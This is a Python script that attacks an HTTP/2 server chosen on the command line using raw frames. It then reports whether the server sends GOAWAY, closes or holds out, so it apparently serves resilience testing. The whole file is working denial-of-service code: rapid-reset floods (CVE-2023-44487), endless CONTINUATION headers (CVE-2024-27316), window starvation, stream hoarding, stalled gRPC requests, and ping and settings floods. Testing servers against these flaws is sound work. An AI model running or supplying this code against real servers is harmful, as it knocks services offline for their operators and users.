"""Attacks a server over plain HTTP/2 (RFC 9113), with nothing but frames, and tells how it ends.

    h2_attack.py KIND HOST PORT PATH [SECONDS [MESSAGE]]      prints `goaway CODE SECONDS`, `closed SECONDS` or `endures SECONDS`

PATH is asked with GET, or, if it is a method of gRPC such as `/api.Registry/ListBundles`, with POST and MESSAGE, in base64 (default:
an empty one). SECONDS is the time for which it tries (default: 30). KIND is one of
  reset          requests that are reset at once (CVE-2023-44487)
  continuation   a head that never ends (CVE-2024-27316)
  window         a request whose answer never gets a flow-control window
  hoard          a hundred requests, each of which gets one byte of its answer
  unsent         a hundred requests of gRPC whose message never comes
  ping           pings that are never waited for, without a request
  settings       settings that change without end, without a request
"""

import base64
import socket
import struct
import sys
import time

PATIENCE = 30.0
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
ACK, END_STREAM, END_HEADERS = 1, 1, 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def is_grpc(path):
    return path.count("/") == 2 and "." in path.split("/")[1]


def head(path, coding=None):
    """:method, :scheme http, :path and :authority, by the static table and as literals (RFC 7541); content-type of gRPC, accept-encoding."""
    literal = lambda index, text: bytes([index, len(text)]) + text.encode()
    common = b"\x86" + literal(0x04, path) + literal(0x01, "attacked") + (b"\x0f" + literal(0x01, coding) if coding else b"")
    return b"\x83" + common + b"\x0f" + literal(0x10, "application/grpc") if is_grpc(path) else b"\x82" + common


def request(stream, path, message):
    """A whole request. Five bytes announce the message of gRPC."""
    if not is_grpc(path):
        return frame(HEADERS, END_STREAM | END_HEADERS, stream, head(path))
    announced = struct.pack(">BI", 0, len(message)) + message
    return frame(HEADERS, END_HEADERS, stream, head(path)) + frame(DATA, END_STREAM, stream, announced)


def begin(host, port, kind):
    connection = socket.create_connection((host, port), timeout=PATIENCE)
    window = {"window": 0, "hoard": 1}.get(kind, 65535)
    connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, window)))
    return connection


def attack(kind, path, message):
    """The frames to send, in blocks, for ever or until there is nothing more to do but to wait."""
    if kind == "reset":
        cancel = lambda stream: frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
        for first in range(1, 2**31, 400):
            yield b"".join(request(stream, path, message) + cancel(stream) for stream in range(first, first + 400, 2))
    elif kind == "continuation":
        yield frame(HEADERS, END_STREAM, 1, head(path))
        # A field of 16,378 bytes, its length in the manner of RFC 7541, section 5.1.
        field = b"\x00\x01a" + b"\x7f\xfb\x7e" + b"a" * 16378
        while True:
            yield frame(CONTINUATION, 0, 1, field)
    elif kind == "window":
        yield request(1, path, message)
    elif kind == "hoard":
        yield b"".join(request(stream, path, message) for stream in range(1, 200, 2))
    elif kind == "unsent":
        yield b"".join(frame(HEADERS, END_HEADERS, stream, head(path)) for stream in range(1, 200, 2))
    elif kind == "ping":
        while True:
            yield frame(PING, 0, 0, b"attacked") * 100
    elif kind == "settings":
        while True:
            yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 100
    else:
        sys.exit(__doc__)


def frames(buffer):
    """The whole frames in a buffer, which keeps the rest."""
    while len(buffer) >= 9:
        length = int.from_bytes(buffer[:3], "big")
        if len(buffer) < 9 + length:
            return
        yield buffer[3], buffer[4], bytes(buffer[9 : 9 + length])
        del buffer[: 9 + length]


def read(connection, buffer, answered):
    """What the server says; answers are counted, and pings are answered, so that the connection counts as alive. A code, if it sends GOAWAY."""
    connection.settimeout(0.01)
    try:
        chunk = connection.recv(1 << 16)
    except TimeoutError:
        return None
    if not chunk:
        raise ConnectionResetError
    buffer += chunk
    for kind, flags, payload in frames(buffer):
        if kind == GOAWAY and int.from_bytes(payload[4:8], "big") != 0:
            return int.from_bytes(payload[4:8], "big")
        answered[0] += kind == HEADERS and bool(flags & END_STREAM)
        if kind == PING and not flags & ACK:
            connection.sendall(frame(PING, ACK, 0, payload))
        if kind == SETTINGS and not flags & ACK:
            connection.sendall(frame(SETTINGS, ACK, 0))
    return None


def main(kind, host, port, path, patience=PATIENCE, message=""):
    started = time.monotonic()
    spent = lambda: f"{time.monotonic() - started:.1f}"
    connection, buffer = begin(host, int(port), kind), bytearray()
    blocks, answered = attack(kind, path, base64.b64decode(message)), [0]
    try:
        while time.monotonic() - started < float(patience):
            connection.settimeout(0.2)
            try:
                connection.sendall(next(blocks, b""))
            except TimeoutError:
                pass
            code = read(connection, buffer, answered)
            if kind == "unsent" and answered[0] == 100:
                return f"answered {spent()}"
            if code is not None:
                return f"goaway {code} {spent()}"
    except OSError:
        return f"closed {spent()}"
    return f"endures {spent()}"


if __name__ == "__main__":
    if len(sys.argv) not in (5, 6, 7):
        sys.exit(__doc__)
    print(main(*sys.argv[1:]))
